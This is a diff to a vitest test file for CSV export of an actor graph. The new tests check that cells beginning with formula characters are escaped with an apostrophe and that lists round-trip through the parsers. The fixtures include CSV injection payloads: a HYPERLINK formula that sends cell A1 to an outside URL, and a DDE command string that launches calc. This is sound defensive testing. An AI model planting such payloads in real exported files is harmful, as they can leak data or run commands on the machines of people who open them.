@@ -5,7 +5,15 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import type { ActorGraph } from '../../src/core/graph/actorGraph.ts';
 import { computeActorMetrics } from '../../src/core/graph/metrics.ts';
 import { buildGraph } from '../../src/core/pipeline/buildGraph.ts';
-import { csvField, writeCsvEdges, writeCsvNodes } from '../../src/core/export/csv.ts';
+import {
+  csvField,
+  formatCsvList,
+  neutraliseFormula,
+  parseCsvList,
+  parseCsvText,
+  writeCsvEdges,
+  writeCsvNodes,
+} from '../../src/core/export/csv.ts';
 import {
   EXPORT_FORMATS,
   exportFilePath,
@@ -86,7 +94,7 @@ describe('CSV export of the seed graph', () => {
       expect(Number(r.weight)).toBe(a.weight);
       expect(Number(r.evidenceCount)).toBe(a.evidence.length);
       expect([r.firstDate, r.lastDate]).toEqual([a.firstDate ?? '', a.lastDate ?? '']);
-      expect(r.articles!.split('|')).toEqual(a.articles);
+      expect(parseCsvList(r.articles!)).toEqual(a.articles);
       expect(r.sourceLabel).toBe(graph.getNodeAttribute(r.source!, 'label'));
       expect(r.targetLabel).toBe(graph.getNodeAttribute(r.target!, 'label'));
     }
@@ -112,7 +120,8 @@ describe('CSV export of the seed graph', () => {
     for (const r of records) {
       const a = graph.getNodeAttributes(r.id!);
       expect([r.label, r.kind, r.affiliation]).toEqual([a.label, a.kind, a.affiliation ?? '']);
-      expect(r.aliases).toBe(a.aliases.join('|'));
+      expect(r.aliases).toBe(a.aliases.join('|')); // nothing to escape or neutralise in the seed
+      expect(parseCsvList(r.aliases!)).toEqual(a.aliases);
       expect(Number(r.degree)).toBe(a.degree);
       expect(Number(r.evidenceCount)).toBe(a.evidenceCount);
       expect(Number(r['degree_opposes'])).toBe(a.degreeByRelation.opposes);
@@ -180,9 +189,160 @@ describe('CSV export of edge cases', () => {
   });
 
   it('takes another list separator and an optional byte-order mark', () => {
-    const nodes = writeCsvNodes(graph, { listSeparator: '; ', bom: true });
+    const nodes = writeCsvNodes(graph, { listSeparator: ';', bom: true });
     expect(nodes.startsWith('\ufeffid,label,')).toBe(true);
-    expect(nodes).toContain(',"One; Two, three",');
+    expect(nodes).toContain(',"One;Two, three",');
+    for (const listSeparator of ['; ', '', '\\', '=', '-', '\t']) {
+      expect(() => writeCsvNodes(graph, { listSeparator })).toThrow(/listSeparator/);
+    }
+  });
+});
+
+describe('CSV formulas and lists', () => {
+  // OWASP's formula characters, the line feed and NUL, and the full-width signs.
+  const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\u0000', '＝', '＋', '－', '＠'];
+  // eslint-disable-next-line no-control-regex
+  const FORMULA = /^[=+\-@\t\r\n\u0000＝＋－＠]/;
+  const graph: ActorGraph = new MultiGraph({ type: 'mixed', allowSelfLoops: false });
+  graph.addNode(
+    '=id',
+    testNode('=id', {
+      label: '=HYPERLINK("http://x.test/?"&A1,"Click")',
+      kind: '+kind' as NodeAttributes['kind'],
+      affiliation: '@aff',
+      aliases: ["-2+3+cmd|' /C calc'!A0", 'Moscow', '\tTab', 'a|b', 'back\\slash', ''],
+      wikidata: '＝Q1',
+      note: '\r\n=note',
+    }),
+  );
+  graph.addNode('@b', testNode('@b', { label: "'=apostrophe", aliases: ["'Ndrangheta"] }));
+  graph.addNode('plain', testNode('plain', { label: 'Plain', x: -12.5, y: -3 }));
+  graph.addDirectedEdgeWithKey('=e', '=id', '@b', {
+    relation: '-relation',
+    label: '@label',
+    weight: -2.5, // a number the writer puts in, not text: it stays a number
+    evidence: [],
+    articles: ['=a1', 'a|2', '-'],
+    firstDate: '+2020',
+    lastDate: '-2021',
+    color: '#000',
+    size: 1,
+  });
+  computeActorMetrics(graph);
+  const edges = writeCsvEdges(graph);
+  const nodes = writeCsvNodes(graph);
+
+  it('neutralises every text cell that begins with a formula character', () => {
+    for (const start of FORMULA_STARTS) {
+      expect(neutraliseFormula(`${start}x`)).toBe(`'${start}x`);
+      expect(parseCsvText(`'${start}x`)).toBe(`${start}x`);
+    }
+    for (const safe of ['x', 'x=1', ' =x', "'x", '2020-01', '']) {
+      expect(neutraliseFormula(safe)).toBe(safe);
+    }
+    // Apostrophes before a formula character get one more, so that one can always be taken off.
+    expect(neutraliseFormula("'=x")).toBe("''=x");
+    expect(parseCsvText("''=x")).toBe("'=x");
+    expect(parseCsvText("'x")).toBe("'x");
+
+    const [header, ...records] = readCsv(edges);
+    const [nodeHeader, ...nodeRecords] = readCsv(nodes);
+    for (const record of [header!, nodeHeader!, ...records, ...nodeRecords]) {
+      for (const cell of record) {
+        if (/^-?\d+(\.\d+)?$/.test(cell)) continue; // numbers the writer puts in
+        expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA);
+      }
+    }
+    const edge = rows(edges)[0]!;
+    expect(edge).toMatchObject({
+      id: "'=e",
+      source: "'=id",
+      target: "'@b",
+      relation: "'-relation",
+      label: "'@label",
+      weight: '-2.5',
+      firstDate: "'+2020",
+      lastDate: "'-2021",
+      articles: "'=a1|a\\|2|'-",
+      sourceLabel: `'=HYPERLINK("http://x.test/?"&A1,"Click")`,
+      targetLabel: "''=apostrophe",
+    });
+    const node = rows(nodes)[0]!;
+    expect(node).toMatchObject({
+      id: "'=id",
+      kind: "'+kind",
+      affiliation: "'@aff",
+      wikidata: "'＝Q1",
+      note: "'\r\n=note",
+    });
+    expect(node.aliases).toBe("'-2+3+cmd\\|' /C calc'!A0|Moscow|'\tTab|a\\|b|back\\\\slash|");
+    expect(rows(nodes)[1]!.aliases).toBe("'Ndrangheta");
+  });
+
+  it('gives every text and list back through parseCsvText and parseCsvList', () => {
+    for (const r of rows(edges)) {
+      const id = parseCsvText(r.id!);
+      const a = graph.getEdgeAttributes(id);
+      expect([parseCsvText(r.source!), parseCsvText(r.target!)]).toEqual(graph.extremities(id));
+      expect([r.relation, r.label, r.firstDate, r.lastDate].map((c) => parseCsvText(c!))).toEqual([
+        a.relation,
+        a.label,
+        a.firstDate,
+        a.lastDate,
+      ]);
+      expect(Number(r.weight)).toBe(a.weight);
+      expect(parseCsvList(r.articles!)).toEqual(a.articles);
+      expect(parseCsvText(r.sourceLabel!)).toBe(graph.getNodeAttribute(graph.source(id), 'label'));
+    }
+    for (const r of rows(nodes)) {
+      const a = graph.getNodeAttributes(parseCsvText(r.id!));
+      for (const key of ['label', 'kind', 'affiliation', 'wikidata', 'note'] as const) {
+        expect(parseCsvText(r[key]!)).toBe(a[key] ?? '');
+      }
+      expect(parseCsvList(r.aliases!)).toEqual(a.aliases);
+      expect(Number(r.degree)).toBe(a.degree);
+    }
+  });
+
+  it('round-trips lists with separators, backslashes, empty items and formula characters', () => {
+    expect(formatCsvList(['Moscow', 'Russians'])).toBe('Moscow|Russians');
+    expect(formatCsvList(['a|b', 'C:\\x', '=1+1'])).toBe("a\\|b|C:\\\\x|'=1+1");
+    const lists: string[][] = [
+      [],
+      ['one'],
+      ['', ''],
+      ['', 'a', ''],
+      ['|', '\\', '\\|', '|\\', '||', '\\\\'],
+      ['x\\', '\\x', 'a\\|b'],
+      FORMULA_STARTS.map((c) => `${c}x`),
+      ["'=x", "''+y", "'plain", "'", "'|'"],
+      ['北京 🚀', 'Comma, "Quote"', 'line\r\nbreak'],
+    ];
+    for (const list of lists) {
+      const cell = formatCsvList(list);
+      expect(cell).not.toMatch(FORMULA);
+      expect(parseCsvList(cell), JSON.stringify(list)).toEqual(list);
+      // Through a whole CSV file too: RFC 4180 quoting on top of the list escaping.
+      expect(readCsv(`${csvField(cell)}\r\n`)).toEqual([[cell]]);
+      const other = formatCsvList(list, { listSeparator: ';' });
+      expect(parseCsvList(other, { listSeparator: ';' })).toEqual(list);
+      const raw = formatCsvList(list, { neutraliseFormulas: false });
+      expect(parseCsvList(raw, { neutraliseFormulas: false })).toEqual(list);
+    }
+    expect(formatCsvList(['a;b', '|'], { listSeparator: ';' })).toBe('a\\;b;|');
+    expect(parseCsvList('')).toEqual([]);
+    expect(formatCsvList([''])).toBe(''); // the one list that does not come back: it reads as []
+    expect(formatCsvList([null, undefined, 3])).toBe('||3');
+  });
+
+  it('writes text as it is with neutraliseFormulas: false', () => {
+    const raw = rows(writeCsvEdges(graph, { neutraliseFormulas: false }))[0]!;
+    expect(raw).toMatchObject({ id: '=e', source: '=id', label: '@label', weight: '-2.5' });
+    expect(raw.articles).toBe('=a1|a\\|2|-');
+    const rawNodes = rows(writeCsvNodes(graph, { neutraliseFormulas: false }));
+    expect(rawNodes[0]!.note).toBe('\r\n=note');
+    expect(rawNodes[1]!.label).toBe("'=apostrophe");
+    expect(parseCsvText(rawNodes[1]!.label!, { neutraliseFormulas: false })).toBe("'=apostrophe");
   });
 });
 
@@ -220,6 +380,17 @@ describe('the format registry', () => {
   });
 
   it('passes the options on to the writers', () => {
+    const formulas = new MultiGraph();
+    formulas.addNode('=a', { label: '@A' });
+    const [edges, nodes] = EXPORT_FORMATS.csv.write(formulas);
+    expect(edges!.content).toBe(
+      'id,source,target,type,relation,label,weight,evidenceCount,firstDate,lastDate,articles,sourceLabel,targetLabel\r\n',
+    );
+    expect(nodes!.content).toContain("\r\n'=a,'@A,");
+    const [, raw] = EXPORT_FORMATS.csv.write(formulas, { neutraliseFormulas: false });
+    expect(raw!.content).toContain('\r\n=a,@A,');
+    const [graphml] = EXPORT_FORMATS.graphml.write(graph);
+    expect(graphml!.content).toContain('<graph id="G" edgedefault="directed">');
     const [gexf] = EXPORT_FORMATS.gexf.write(graph, { lastModified: '2020-01-02', creator: 'me' });
     expect(gexf!.content).toContain('<meta lastmodifieddate="2020-01-02">');
     expect(gexf!.content).toContain('<creator>me</creator>');
